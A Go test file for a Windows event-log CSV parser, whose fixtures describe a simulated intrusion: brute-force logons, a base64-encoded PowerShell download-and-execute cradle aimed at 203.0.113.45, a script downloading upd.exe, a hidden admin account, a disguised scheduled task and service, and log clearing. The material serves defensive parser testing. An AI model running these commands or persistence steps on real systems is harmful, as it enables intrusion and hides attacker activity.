package wincsv

import (
	"bytes"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/ttpmap/ttpmap/event"
	"github.com/ttpmap/ttpmap/source"
	"github.com/ttpmap/ttpmap/source/sourcetest"
)

// readAll reads every event and record error of data.
func readAll(t testing.TB, data []byte, name string) ([]*event.Event, []*source.RecordError) {
	t.Helper()
	return sourcetest.ReadAll(t, Format{}, bytes.NewReader(data), name)
}

func readFixture(t testing.TB, name string) []byte {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// want is a subset of an event to check.
type want struct {
	id       int
	time     string // RFC 3339
	line     int64
	provider string
	channel  string
	host     string
	user     string
	fields   map[string]string // exact values
	contains map[string]string // substrings
	message  string            // prefix of Message
}

func checkEvent(t *testing.T, e *event.Event, w want) {
	t.Helper()
	if e.EventID != w.id {
		t.Errorf("line %d: EventID = %d, want %d", e.Offset, e.EventID, w.id)
	}
	if w.time != "" {
		if got := e.Time.Format(time.RFC3339); got != w.time {
			t.Errorf("event %d line %d: Time = %s, want %s", w.id, e.Offset, got, w.time)
		}
	}
	if w.line != 0 && e.Offset != w.line {
		t.Errorf("event %d: Offset = %d, want %d", w.id, e.Offset, w.line)
	}
	for name, got := range map[string][2]string{
		"Provider": {e.Provider, w.provider}, "Channel": {e.Channel, w.channel},
		"Host": {e.Host, w.host}, "User": {e.User, w.user},
	} {
		if got[1] != "" && got[0] != got[1] {
			t.Errorf("event %d line %d: %s = %q, want %q", w.id, e.Offset, name, got[0], got[1])
		}
	}
	for k, v := range w.fields {
		if got, ok := e.Fields[k]; !ok || got != v {
			t.Errorf("event %d line %d: %s = %q (present %v), want %q", w.id, e.Offset, k, got, ok, v)
		}
	}
	for k, v := range w.contains {
		if got := e.Fields[k]; !strings.Contains(got, v) {
			t.Errorf("event %d line %d: %s = %q, want it to contain %q", w.id, e.Offset, k, got, v)
		}
	}
	if !strings.HasPrefix(e.Message, w.message) {
		t.Errorf("event %d line %d: Message = %.60q…, want prefix %q", w.id, e.Offset, e.Message, w.message)
	}
	if e.Kind != "wincsv" {
		t.Errorf("Kind = %q", e.Kind)
	}
	if e.Fields[event.FieldEventID] == "" || e.Fields[event.FieldTime] == "" {
		t.Errorf("event %d line %d: EventID/TimeCreated fields missing", w.id, e.Offset)
	}
}

const b64 = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA0ADUALwBhAC4AcABzADEAJwApAA=="

// securityStory is what both Security fixtures must yield, oldest first.
// The Event Viewer export lists the same events newest first.
var securityStory = []want{
	{id: 4624, time: "2026-11-23T07:38:11Z", user: `NT AUTHORITY\SYSTEM`, fields: map[string]string{
		"LogonType": "5", "SubjectUserSid": "S-1-5-18", "SubjectUserName": "WS01$", "TargetUserSid": "S-1-5-18",
		"TargetUserName": "SYSTEM", "TargetDomainName": "NT AUTHORITY", "LogonProcessName": "Advapi",
		"ProcessName": `C:\Windows\System32\services.exe`, "IpAddress": "-", "IpPort": "-"}},
	{id: 4625, time: "2026-11-23T07:41:02Z", user: "administrator", fields: map[string]string{
		"TargetUserName": "administrator", "TargetDomainName": "", "TargetUserSid": "S-1-0-0",
		"SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectLogonId": "0x0",
		"LogonType": "3", "FailureReason": "%%2313", "Status": "0xC000006D", "SubStatus": "0xC000006A",
		"ProcessId": "0x0", "ProcessName": "-", "WorkstationName": "kali", "IpAddress": "203.0.113.45",
		"IpPort": "0", "LogonProcessName": "NtLmSsp", "AuthenticationPackageName": "NTLM",
		"LmPackageName": "-", "TransmittedServices": "-", "KeyLength": "0", "Keywords": "0x8010000000000000"},
		message: "An account failed to log on."},
	{id: 4625, time: "2026-11-23T07:41:04Z", fields: map[string]string{"TargetUserName": "admin", "SubStatus": "0xC0000064"}},
	{id: 4625, time: "2026-11-23T07:41:07Z", fields: map[string]string{"TargetUserName": "administrator"}},
	{id: 4625, time: "2026-11-23T07:41:09Z", fields: map[string]string{"TargetUserName": "backup"}},
	{id: 4625, time: "2026-11-23T07:41:12Z", fields: map[string]string{"TargetUserName": "administrator"}},
	{id: 4625, time: "2026-11-23T07:41:15Z", user: "jdoe", fields: map[string]string{"TargetUserName": "jdoe", "SubStatus": "0xC000006A"}},
	{id: 4624, time: "2026-11-23T07:42:26Z", user: `CORP\jdoe`, fields: map[string]string{
		"LogonType": "10", "SubjectUserSid": "S-1-5-18", "SubjectUserName": "WS01$", "SubjectDomainName": "CORP",
		"SubjectLogonId": "0x3E7", "TargetUserSid": `CORP\jdoe`, "TargetUserName": "jdoe", "TargetDomainName": "CORP",
		"TargetLogonId": "0x8A3F21", "TargetLinkedLogonId": "0x8A3F55", "LogonGuid": "{6c1a3f2e-9b4d-4e8a-a1c7-2f5d8e9b0c31}",
		"ElevatedToken": "%%1842", "VirtualAccount": "%%1843", "RestrictedAdminMode": "-", "ImpersonationLevel": "%%1833",
		"ProcessId": "0x3c8", "ProcessName": `C:\Windows\System32\svchost.exe`, "WorkstationName": "WS01",
		"IpAddress": "203.0.113.45", "IpPort": "0", "LogonProcessName": "User32", "AuthenticationPackageName": "Negotiate",
		"Keywords": "0x8020000000000000", "TaskCategory": "Logon"},
		message: "An account was successfully logged on.\n\nSubject:\n\tSecurity ID:\t\tSYSTEM\n"},
	{id: 4672, time: "2026-11-23T07:42:26Z", fields: map[string]string{"SubjectUserName": "jdoe", "SubjectLogonId": "0x8A3F21"},
		contains: map[string]string{"PrivilegeList": "SeDebugPrivilege"}},
	{id: 4688, time: "2026-11-23T07:43:05Z", fields: map[string]string{
		"NewProcessName": `C:\Windows\System32\cmd.exe`, "NewProcessId": "0x1f0c", "ProcessId": "0x1b34",
		"ParentProcessName": `C:\Windows\explorer.exe`, "CommandLine": `"C:\Windows\system32\cmd.exe"`}},
	{id: 4688, time: "2026-11-23T07:43:40Z", user: `CORP\jdoe`, fields: map[string]string{
		"SubjectUserSid": `CORP\jdoe`, "SubjectUserName": "jdoe", "SubjectDomainName": "CORP", "SubjectLogonId": "0x8A3F21",
		"TargetUserSid": "S-1-0-0", "TargetUserName": "-", "TargetDomainName": "-", "TargetLogonId": "0x0",
		"NewProcessId": "0x1a2c", "NewProcessName": `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
		"TokenElevationType": "%%1937", "MandatoryLabel": "S-1-16-12288", "ProcessId": "0x1f0c",
		"ParentProcessName": `C:\Windows\System32\cmd.exe`, "CommandLine": "powershell.exe  -nop -w hidden -enc " + b64}},
	{id: 4720, time: "2026-11-23T07:44:02Z", fields: map[string]string{
		"SubjectUserName": "jdoe", "TargetSid": `WS01\support`, "TargetUserName": "support", "TargetDomainName": "WS01",
		"SamAccountName": "support", "DisplayName": "<value not set>", "UserPrincipalName": "-", "PrimaryGroupId": "513",
		"OldUacValue": "0x0", "NewUacValue": "0x15", "SidHistory": "-", "LogonHours": "All", "PasswordLastSet": "<never>",
		"UserAccountControl": "\n\t\tAccount Disabled\n\t\t'Password Not Required' - Enabled\n\t\t'Normal Account' - Enabled"}},
	{id: 4732, time: "2026-11-23T07:44:03Z", fields: map[string]string{
		"SubjectUserName": "jdoe", "MemberSid": `WS01\support`, "MemberName": "-", "TargetSid": "S-1-5-32-544",
		"TargetUserName": "Administrators", "TargetDomainName": "Builtin", "PrivilegeList": "-"}},
	{id: 4698, time: "2026-11-23T07:45:12Z", fields: map[string]string{
		"SubjectUserName": "jdoe", "TaskName": `\Microsoft\Windows\Maintenance\WinUpdateCheck`,
		"ClientProcessStartKey": "3377699720527926", "ClientProcessId": "6700", "ParentProcessId": "7948", "FQDN": "0"},
		contains: map[string]string{"TaskContent": "<Arguments>-nop -w hidden -enc " + b64 + "</Arguments>\n    </Exec>\n  </Actions>\n</Task>"}},
	{id: 4697, time: "2026-11-23T07:46:30Z", fields: map[string]string{
		"ServiceName": "WinUpdSvc", "ServiceType": "0x10", "ServiceStartType": "3", "ServiceAccount": "LocalSystem",
		"ServiceFileName": "%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -noni -enc " + b64}},
	{id: 1102, time: "2026-11-23T07:48:55Z", provider: "Microsoft-Windows-Eventlog", channel: "Security", user: `CORP\jdoe`,
		fields:  map[string]string{"SubjectUserSid": `CORP\jdoe`, "SubjectUserName": "jdoe", "SubjectDomainName": "CORP", "SubjectLogonId": "0x8A3F21"},
		message: "The audit log was cleared.\nSubject:"},
}

func TestSecurityEventViewer(t *testing.T) {
	evs, errs := readAll(t, readFixture(t, "security_eventviewer.csv"), "security_eventviewer.csv")
	if len(errs) > 0 {
		t.Fatalf("record errors: %v", errs)
	}
	if len(evs) != len(securityStory) {
		t.Fatalf("got %d events, want %d", len(evs), len(securityStory))
	}
	for i, e := range evs {
		w := securityStory[len(securityStory)-1-i] // newest first
		if w.provider == "" {
			w.provider, w.channel = "Microsoft-Windows-Security-Auditing", "Security"
		}
		w.host = "WS01" // learnt from the SYSTEM machine account
		if i == 0 {
			w.line = 2
		}
		checkEvent(t, e, w)
		if e.RecordID != uint64(i+1) {
			t.Errorf("RecordID = %d, want %d", e.RecordID, i+1)
		}
		if e.File != "security_eventviewer.csv" {
			t.Errorf("File = %q", e.File)
		}
		if _, ok := e.Fields["User"]; ok {
			t.Errorf("line %d: User field set without a User column", e.Offset)
		}
	}
}

func TestSecurityBrief002(t *testing.T) {
	evs, errs := readAll(t, readFixture(t, "security_brief002.csv"), "b.csv")
	if len(errs) > 0 {
		t.Fatalf("record errors: %v", errs)
	}
	// The Security story plus a PowerShell 4104 and a 7045, oldest first.
	var wants []want
	for _, w := range securityStory {
		if w.provider == "" {
			w.provider, w.channel = "Microsoft-Windows-Security-Auditing", "Security"
		}
		wants = append(wants, w)
	}
	ps := want{id: 4104, time: "2026-11-23T07:43:41Z", provider: "Microsoft-Windows-PowerShell",
		channel: "Microsoft-Windows-PowerShell/Operational", user: `CORP\jdoe`,
		fields: map[string]string{"User": `CORP\jdoe`, "MessageNumber": "1", "MessageTotal": "1",
			"ScriptBlockId": "9b2f6c1e-4d7a-4f0b-8e21-5a6c3d9e7f10", "Path": "",
			"ScriptBlockText": "function Invoke-Update {\n    param([string]$Url)\n\n    $wc = New-Object System.Net.WebClient\n" +
				"    # note: keep it quiet\n    $wc.DownloadFile($Url, \"$env:TEMP\\upd.exe\")\n}\nInvoke-Update -Url 'http://203.0.113.45/upd.exe'"}}
	svc := want{id: 7045, time: "2026-11-23T07:46:30Z", provider: "Service Control Manager", channel: "System",
		fields: map[string]string{"ServiceName": "WinUpdSvc", "ServiceType": "user mode service", "StartType": "demand start",
			"AccountName": "LocalSystem", "ImagePath": "%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -noni -enc " + b64}}
	wants = append(wants[:11], append([]want{ps}, wants[11:]...)...)
	wants = append(wants[:16], append([]want{svc}, wants[16:]...)...)
	if len(evs) != len(wants) {
		t.Fatalf("got %d events, want %d", len(evs), len(wants))
	}
	for i, e := range evs {
		w := wants[i]
		w.host = "WS01.corp.local"
		if i == 0 {
			w.line = 2
		}
		checkEvent(t, e, w)
		if e.EventID != 4104 {
			if _, ok := e.Fields["User"]; ok {
				t.Errorf("event %d: User field set from N/A", e.EventID)
			}
		}
	}
}

func TestSystemEventViewer(t *testing.T) {
	evs, errs := readAll(t, readFixture(t, "system_eventviewer.csv"), "system.csv")
	if len(errs) > 0 {
		t.Fatalf("record errors: %v", errs)
	}
	wants := []want{
		{id: 104, time: "2026-11-23T07:48:57Z", line: 2, provider: "Microsoft-Windows-Eventlog", channel: "System",
			fields: map[string]string{"Level": "4", "TaskCategory": "Log clear"}, message: "The System log file was cleared."},
		{id: 134, provider: "Microsoft-Windows-Time-Service", channel: "System", fields: map[string]string{"Level": "3"}},
		{id: 7000, line: 4, provider: "Service Control Manager", channel: "System", fields: map[string]string{"Level": "2"}},
		{id: 7009, line: 6, provider: "Service Control Manager", channel: "System", fields: map[string]string{"Level": "2"}},
		{id: 7045, time: "2026-11-23T07:46:30Z", line: 7, provider: "Service Control Manager", channel: "System",
			fields: map[string]string{"ServiceName": "WinUpdSvc", "ServiceType": "user mode service",
				"StartType": "demand start", "AccountName": "LocalSystem",
				"ImagePath": "%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -noni -enc " + b64}},
		{id: 6013, time: "2026-11-23T07:00:00Z", provider: "EventLog", channel: "System"},
	}
	if len(evs) != len(wants) {
		t.Fatalf("got %d events, want %d", len(evs), len(wants))
	}
	for i, e := range evs {
		checkEvent(t, e, wants[i])
	}
}

// TestUTF16 reads UTF-16 versions of the fixtures through source.Walker,
// which converts them, and expects what the UTF-8 fixture gives.
func TestUTF16(t *testing.T) {
	const surrogates = "Level,Date and Time,Source,Event ID,Task Category\r\n" +
		"Information,11/23/2026 7:42:26 AM,App,1,None,\"Name: caf\u00e9 \U0001F600\"\r\n"
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "surrogates.csv"), []byte(surrogates), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, fixture := range []string{"testdata/security_eventviewer.csv", "testdata/security_brief002.csv",
		"testdata/system_eventviewer.csv"} {
		t.Run(filepath.Base(fixture), func(t *testing.T) { sourcetest.CheckUTF16(t, Format{}, fixture) })
	}
	le := sourcetest.CheckUTF16(t, Format{}, filepath.Join(dir, "surrogates.csv"))["le"]
	if evs, _ := sourcetest.Walk(t, Format{}, le); len(evs) != 1 || evs[0].Fields["Name"] != "caf\u00e9 \U0001F600" {
		t.Fatalf("got %+v", evs)
	}
}

// TestBadRows inserts a bad row in the middle of the Event Viewer export:
// it yields exactly one RecordError at its line and the rows after it still
// arrive.
func TestBadRows(t *testing.T) {
	data := string(readFixture(t, "security_eventviewer.csv"))
	// The start of the 8th record.
	at := 0
	for i := 0; i < 8; i++ {
		next := strings.Index(data[at+1:], "\r\nAudit ")
		if next < 0 {
			t.Fatal("fixture layout changed")
		}
		at += 1 + next
	}
	at += 2
	line := int64(strings.Count(data[:at], "\n") + 1)
	for _, tc := range []struct {
		name, row, msg string
	}{
		{"date", "Audit Success,yesterday,Microsoft-Windows-Security-Auditing,4624,Logon,\"x\"\r\n", "unrecognised date"},
		{"eventid", "Audit Success,11/23/2026 7:42:26 AM,Microsoft-Windows-Security-Auditing,46x4,Logon,\"x\"\r\n", "bad event ID"},
		{"month", "Audit Success,13/33/2026 7:42:26 AM,Microsoft-Windows-Security-Auditing,4624,Logon,\"x\"\r\n", "out of range"},
		{"few", "Audit Success,11/23/2026 7:42:26 AM,Microsoft-Windows-Security-Auditing\r\n", "3 fields"},
		{"many", "Audit Success,11/23/2026 7:42:26 AM,Microsoft-Windows-Security-Auditing,4624,Logon,\"x\",y,z\r\n", "8 fields"},
		{"multiline", "Audit Success,nope,Microsoft-Windows-Security-Auditing,4624,Logon,\"line one\r\nline two\"\r\n", "unrecognised date"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			garbled := data[:at] + tc.row + data[at:]
			evs, errs := readAll(t, []byte(garbled), "sec.csv")
			if len(errs) != 1 {
				t.Fatalf("got %d record errors, want 1: %v", len(errs), errs)
			}
			re := errs[0]
			if re.File != "sec.csv" || re.Line != line || re.Offset != -1 || re.Chunk != -1 {
				t.Errorf("RecordError = %+v, want File sec.csv Line %d Offset -1 Chunk -1", re, line)
			}
			if !strings.Contains(re.Error(), tc.msg) || !strings.HasPrefix(re.Error(), "sec.csv: line ") {
				t.Errorf("error %q does not mention %q", re.Error(), tc.msg)
			}
			if len(evs) != len(securityStory) {
				t.Fatalf("got %d events, want %d", len(evs), len(securityStory))
			}
			if last := evs[len(evs)-1]; last.EventID != 4624 || last.Fields["LogonType"] != "5" {
				t.Errorf("last event = %d, want the type 5 logon", last.EventID)
			}
			// Record ordinals count the bad row.
			if evs[len(evs)-1].RecordID != uint64(len(securityStory)+1) {
				t.Errorf("last RecordID = %d", evs[len(evs)-1].RecordID)
			}
		})
	}
}

func TestRecordTooLarge(t *testing.T) {
	text := "Level,Date and Time,Source,Event ID,Task Category\r\n" +
		"Information,11/23/2026 7:42:26 AM,App,1,None,\"ok\"\r\n" +
		"Information,11/23/2026 7:42:26 AM,App,2,None,\"unterminated " + strings.Repeat("x\r\n", 40000)
	rd, _ := Format{}.Open(strings.NewReader(text), "big.csv")
	rd.(*reader).maxRecord = 10000
	e, err := rd.Read()
	if err != nil || e.EventID != 1 {
		t.Fatalf("first Read = %v, %v", e, err)
	}
	_, err = rd.Read()
	if !errors.Is(err, errRecordTooLarge) || !strings.Contains(err.Error(), "big.csv") {
		t.Fatalf("second Read error = %v, want errRecordTooLarge", err)
	}
	if _, err2 := rd.Read(); err2 == nil || errors.Is(err2, io.EOF) {
		t.Errorf("Read after a fatal error = %v, want the same error", err2)
	}
}

func TestNotAHeader(t *testing.T) {
	for _, text := range []string{"", "a,b,c\r\n1,2,3\r\n"} {
		rd, err := Format{}.Open(strings.NewReader(text), "x.csv")
		if err != nil {
			t.Fatal(err)
		}
		if _, err := rd.Read(); err == nil || errors.Is(err, io.EOF) {
			t.Errorf("%q: Read error = %v, want a header error", text, err)
		}
	}
	// A header alone is an empty input.
	rd, _ := Format{}.Open(strings.NewReader("Level,Date and Time,Source,Event ID,Task Category\r\n"), "x.csv")
	if _, err := rd.Read(); !errors.Is(err, io.EOF) {
		t.Errorf("header only: %v, want io.EOF", err)
	}
}

// failReader fails every read: Open must not read.
type failReader struct{}

func (failReader) Read([]byte) (int, error) { return 0, errors.New("read called") }

func TestOpenDoesNotRead(t *testing.T) {
	rd, err := Format{}.Open(failReader{}, "x")
	if err != nil {
		t.Fatalf("Open read the input: %v", err)
	}
	if _, err := rd.Read(); err == nil || !strings.Contains(err.Error(), "read called") {
		t.Errorf("Read error = %v", err)
	}
}

func TestSniff(t *testing.T) {
	sec := readFixture(t, "security_eventviewer.csv")
	for _, tc := range []struct {
		name string
		head string
		want bool
	}{
		{"eventviewer", string(sec[:min(len(sec), source.SniffSize)]), true},
		{"brief002", `"Date and Time","Event ID","Computer","User","Task Category","Keywords","Description"` + "\r\n", true},
		{"level", "Level,Date and Time,Source,Event ID,Task Category\r\nInformation,", true},
		{"no BOM, LF", "Keywords,Date and Time,Source,Event ID,Task Category\n", true},
		{"reordered, spaced", " event id ; ", false},
		{"reordered", "Event ID, DATE AND TIME ,Computer,Message\n", true},
		{"german", "Ebene,Datum und Uhrzeit,Quelle,Ereignis-ID,Aufgabenkategorie\r\n", true},
		{"header only no newline", "Level,Date and Time,Source,Event ID,Task Category", true},
		{"no event id", "Date and Time,Source,Message\r\n", false},
		{"findings report", "timestamp,host,user,source,event_id,rule_id,tactic,technique_id,technique_name,severity,description,raw_message\n", false},
		{"generic csv", "date,id,name,description\n", false},
		{"get-winevent", `"Message","Id","Version","Qualifiers","Level","Task","Opcode","Keywords","RecordId","ProviderName","ProviderId","LogName","ProcessId","ThreadId","MachineName","UserId","TimeCreated"` + "\r\n", true},
		{"json", `{"EventID": 4624, "Date and Time": "x"}` + "\n", false},
		{"evtx", "ElfFile\x00\x00\x00", false},
		{"empty", "", false},
		{"long line", "Date and Time,Event ID," + strings.Repeat("x", source.SniffSize), false},
	} {
		head := []byte(tc.head)
		if len(head) > source.SniffSize {
			head = head[:source.SniffSize]
		}
		if got := (Format{}).Sniff(head); got != tc.want {
			t.Errorf("%s: Sniff = %v, want %v", tc.name, got, tc.want)
		}
	}
	if (Format{}).Name() != "wincsv" {
		t.Error("Name")
	}
}

// TestHeaderVariants checks column order, extra columns, header case and
// the Message/Description naming.
func TestHeaderVariants(t *testing.T) {
	msg := "\"An account failed to log on.\r\n\r\nAccount For Which Logon Failed:\r\n\tSecurity ID:\t\tNULL SID\r\n\tAccount Name:\t\tbob\"\r\n"
	for _, tc := range []struct {
		name, text string
		want       want
	}{
		{"eventviewer security", "Keywords,Date and Time,Source,Event ID,Task Category\r\n" +
			"Audit Failure,11/23/2026 7:42:26 PM,Microsoft-Windows-Security-Auditing,4625,Logon," + msg,
			want{id: 4625, time: "2026-11-23T19:42:26Z", line: 2, provider: "Microsoft-Windows-Security-Auditing", channel: "Security",
				fields: map[string]string{"TargetUserName": "bob", "Keywords": "0x8010000000000000", "TaskCategory": "Logon"}}},
		{"reordered with extras", " EVENT ID ,Computer,date and time,User,Level,Source,Log Name,Record ID,Opcode,Message\r\n" +
			"4625,DC01.corp.local,2026-11-23 19:42:26,CORP\\alice,Information,Microsoft Windows security auditing.,Security,9912,Info," + msg,
			want{id: 4625, time: "2026-11-23T19:42:26Z", provider: "Microsoft-Windows-Security-Auditing", channel: "Security",
				host: "DC01.corp.local", user: `CORP\alice`,
				fields: map[string]string{"TargetUserName": "bob", "Computer": "DC01.corp.local", "User": `CORP\alice`,
					"Level": "4", "EventRecordID": "9912", "Opcode": "Info"}}},
		{"trailing empty header", "Level,Date and Time,Source,Event ID,Task Category,\r\n" +
			"Information,23.11.2026 19:42:26,Microsoft-Windows-Security-Auditing,4625,Logon," + msg,
			want{id: 4625, time: "2026-11-23T19:42:26Z", fields: map[string]string{"TargetUserName": "bob"}}},
		{"no source, keywords only", "Date and Time,Event ID,Keywords,Description\r\n" +
			"2026-11-23T19:42:26.5+01:00,4625,Audit Failure," + msg,
			want{id: 4625, time: "2026-11-23T18:42:26Z", provider: "Microsoft-Windows-Security-Auditing", channel: "Security",
				fields: map[string]string{"TargetUserName": "bob"}}},
		{"unknown source", "Level,Date and Time,Source,Event ID,Task Category\r\n" +
			"Error,11/23/2026 7:42:26 PM,Application Error,1000,(100),\"Faulting application name: evil.exe\"\r\n",
			want{id: 1000, provider: "Application Error", fields: map[string]string{"FaultingApplicationName": "evil.exe"}}},
		{"display name with provider", "Level,Date and Time,Source,Event ID,Task Category\r\n" +
			"Verbose,11/23/2026 7:42:26 PM,PowerShell (Microsoft-Windows-PowerShell),4104,Execute a Remote Command,\"Creating Scriptblock text (1 of 1):\r\nwhoami\r\n\r\nScriptBlock ID: abc\r\nPath: C:\\x.ps1\"\r\n",
			want{id: 4104, provider: "Microsoft-Windows-PowerShell", channel: "Microsoft-Windows-PowerShell/Operational",
				fields: map[string]string{"ScriptBlockText": "whoami", "ScriptBlockId": "abc", "Path": `C:\x.ps1`, "Level": "5"}}},
		{"get-winevent", `"Message","Id","Version","Qualifiers","Level","Task","Opcode","Keywords","RecordId","ProviderName","ProviderId","LogName","ProcessId","ThreadId","MachineName","UserId","TimeCreated","LevelDisplayName","TaskDisplayName"` + "\r\n" +
			msg[:len(msg)-2] + `,4625,0,,0,12544,0,-9218868437227405312,77123,Microsoft-Windows-Security-Auditing,54849625-5478-4994-a5ba-3e3b0328c30d,Security,692,5720,WS01.corp.local,,11/23/2026 7:42:26 PM,Information,Logon` + "\r\n",
			want{id: 4625, time: "2026-11-23T19:42:26Z", provider: "Microsoft-Windows-Security-Auditing", channel: "Security",
				host: "WS01.corp.local", fields: map[string]string{"TargetUserName": "bob", "Keywords": "0x8010000000000000",
					"Level": "0", "EventRecordID": "77123", "TaskCategory": "Logon", "Opcode": "0"}}},
		{"N/A user and computer", "Date and Time,Event ID,Computer,User,Description\r\n" +
			"11/23/2026 19:42,4625,N/A,N/A," + msg,
			want{id: 4625, time: "2026-11-23T19:42:00Z", user: "bob", fields: map[string]string{"TargetUserName": "bob"}}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			evs, errs := readAll(t, []byte(tc.text), "v.csv")
			if len(errs) != 0 || len(evs) != 1 {
				t.Fatalf("got %d events, errors %v", len(evs), errs)
			}
			checkEvent(t, evs[0], tc.want)
			if tc.name == "N/A user and computer" {
				if _, ok := evs[0].Fields["User"]; ok || evs[0].Host != "" {
					t.Errorf("N/A became a value: %+v", evs[0])
				}
			}
		})
	}
}

// TestDateOrderPerFile: ambiguous dates follow the evidence found in the
// file (a day above 12), else the US order.
func TestDateOrderPerFile(t *testing.T) {
	head := "Level,Date and Time,Source,Event ID,Task Category\r\n"
	row := func(date string) string {
		return "Information,\"" + date + "\",Service Control Manager,7036,None,\"x\"\r\n"
	}
	for _, tc := range []struct {
		name  string
		dates []string
		want  []string
	}{
		{"day first", []string{"01/02/2026 10:00:00", "05/02/2026 10:00:00", "13/02/2026 10:00:00"},
			[]string{"2026-02-01", "2026-02-05", "2026-02-13"}},
		{"month first", []string{"01/02/2026 10:00:00", "02/13/2026 10:00:00"}, []string{"2026-01-02", "2026-02-13"}},
		{"no evidence: US", []string{"01/02/2026 10:00:00", "03/04/2026 10:00:00"}, []string{"2026-01-02", "2026-03-04"}},
		{"dots are day first", []string{"01.02.2026 10:00:00"}, []string{"2026-02-01"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			text := head
			for _, d := range tc.dates {
				text += row(d)
			}
			evs, errs := readAll(t, []byte(text), "d.csv")
			if len(errs) > 0 || len(evs) != len(tc.want) {
				t.Fatalf("got %d events, %v", len(evs), errs)
			}
			for i, e := range evs {
				if got := e.Time.Format("2006-01-02"); got != tc.want[i] {
					t.Errorf("%s → %s, want %s", tc.dates[i], got, tc.want[i])
				}
			}
		})
	}
	// Evidence beyond the look-ahead window does not change earlier rows;
	// rows that prove their own order are still read right.
	text := head
	for i := 0; i < lookahead+10; i++ {
		text += row("01/02/2026 10:00:00")
	}
	text += row("13/02/2026 10:00:00")
	evs, _ := readAll(t, []byte(text), "d.csv")
	if got := evs[0].Time.Format("2006-01-02"); got != "2026-01-02" {
		t.Errorf("first = %s", got)
	}
	if got := evs[len(evs)-1].Time.Format("2006-01-02"); got != "2026-02-13" {
		t.Errorf("last = %s", got)
	}
}

func TestParseTime(t *testing.T) {
	for _, tc := range []struct {
		in    string
		order dateOrder
		want  string // RFC 3339 nano, "" = error
	}{
		{"11/23/2026 7:42:26 AM", orderMDY, "2026-11-23T07:42:26Z"},
		{"11/23/2026 12:05:00 AM", orderMDY, "2026-11-23T00:05:00Z"},
		{"11/23/2026 12:05:00 PM", orderMDY, "2026-11-23T12:05:00Z"},
		{"11/23/2026 7:42:26 PM", orderDMY, "2026-11-23T19:42:26Z"},
		{"23/11/2026 07:42:26", orderMDY, "2026-11-23T07:42:26Z"},
		{"03/04/2026 07:42:26", orderDMY, "2026-04-03T07:42:26Z"},
		{"03/04/2026 07:42:26", orderMDY, "2026-03-04T07:42:26Z"},
		{"2026-11-23 07:42:26", orderMDY, "2026-11-23T07:42:26Z"},
		{"2026-11-23 07:42:26.1234567", orderMDY, "2026-11-23T07:42:26.1234567Z"},
		{"23.11.2026 07:42:26", orderMDY, "2026-11-23T07:42:26Z"},
		{"23.11.2026. 7:42:26", orderMDY, "2026-11-23T07:42:26Z"},
		{"23-11-2026 07:42", orderMDY, "2026-11-23T07:42:00Z"},
		{"2026-11-23T07:42:26Z", orderMDY, "2026-11-23T07:42:26Z"},
		{"2026-11-23T07:42:26.123+02:00", orderMDY, "2026-11-23T05:42:26.123Z"},
		{"2026-11-23T07:42:26", orderMDY, "2026-11-23T07:42:26Z"},
		{"2026-11-23 07:42:26 +0100", orderMDY, "2026-11-23T06:42:26Z"},
		{"\u200e11/\u200e23/\u200e2026 7:42:26\u202fAM", orderMDY, "2026-11-23T07:42:26Z"},
		{"11/23/2026 7:42:26 p.m.", orderMDY, "2026-11-23T19:42:26Z"},
		{"11/23/26 7:42:26 AM", orderMDY, "2026-11-23T07:42:26Z"},
		{"2026-11-23", orderMDY, "2026-11-23T00:00:00Z"},
		{"", orderMDY, ""},
		{"yesterday", orderMDY, ""},
		{"31/02/2026 10:00:00", orderDMY, ""},
		{"11/23/2026 25:00:00", orderMDY, ""},
		{"11/23/2026 13:00:00 PM", orderMDY, ""},
		{"11/23/2026 7:42:26 XM", orderMDY, ""},
		{"1/2/3 4:5", orderMDY, ""},
	} {
		got, err := parseTime(tc.in, tc.order)
		switch {
		case tc.want == "" && err == nil:
			t.Errorf("parseTime(%q) = %v, want an error", tc.in, got)
		case tc.want != "" && err != nil:
			t.Errorf("parseTime(%q): %v", tc.in, err)
		case tc.want != "" && got.Format(time.RFC3339Nano) != tc.want:
			t.Errorf("parseTime(%q) = %s, want %s", tc.in, got.Format(time.RFC3339Nano), tc.want)
		}
	}
}
